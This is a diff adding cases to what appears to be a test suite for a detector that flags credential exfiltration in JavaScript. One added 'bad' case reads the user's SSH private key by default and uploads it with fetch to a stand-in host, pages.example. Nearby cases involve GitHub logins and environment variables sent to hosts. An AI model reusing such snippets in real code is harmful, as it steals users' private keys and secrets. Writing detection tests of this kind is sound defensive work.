@@ -72,6 +72,11 @@ const named = [
 export default defineCases({
   bad: [
     {
+      name: 'the key that settings name by default',
+      alone: 'review',
+      code: "const fs = require('fs'), { parse } = require('yaml');\nexports.publish = (text) => { const settings = parse(text); if (!settings.key) settings.key = require('os').homedir() + '/.ssh/id_ed25519'; return fetch('https://pages.example', { method: 'PUT', body: fs.readFileSync(settings.key) }); };",
+    },
+    {
       name: 'the login of GitHub for a host, told to that host',
       alone: 'pass',
       manifest: { type: 'module' },
@@ -658,6 +663,10 @@ report('start', process.env);`,
     },
   ],
   ok: [
+    {
+      name: 'files of a folder that settings name, beside a key that they name by default',
+      code: "const fs = require('fs'), path = require('path'), { parse } = require('yaml');\nexports.publish = (text, file) => { const settings = parse(text); if (!settings.key) settings.key = '~/.ssh/id_ed25519'; return fetch('https://pages.example', { method: 'PUT', body: fs.readFileSync(path.join(settings.folder, file)) }); };",
+    },
     {
       name: 'settings of a profile whose folder is only known when it runs, told of a crash',
       code: "const { copyFileSync, readFileSync } = require('fs'); const { join } = require('path'); const { tmpdir } = require('os');\nfunction attachments(profile) {\n  const out = {};\n  for (const [i, name] of ['Preferences', join('Crashpad', 'settings.dat')].entries()) { const to = join(tmpdir(), String(i)); copyFileSync(join(profile, name), to); const data = readFileSync(to); out[name] = data.toString('base64'); }\n  return out;\n}\nexports.crashed = (browser) => fetch('https://crash.example/submit', { method: 'POST', body: JSON.stringify(attachments(browser.profile)) });",
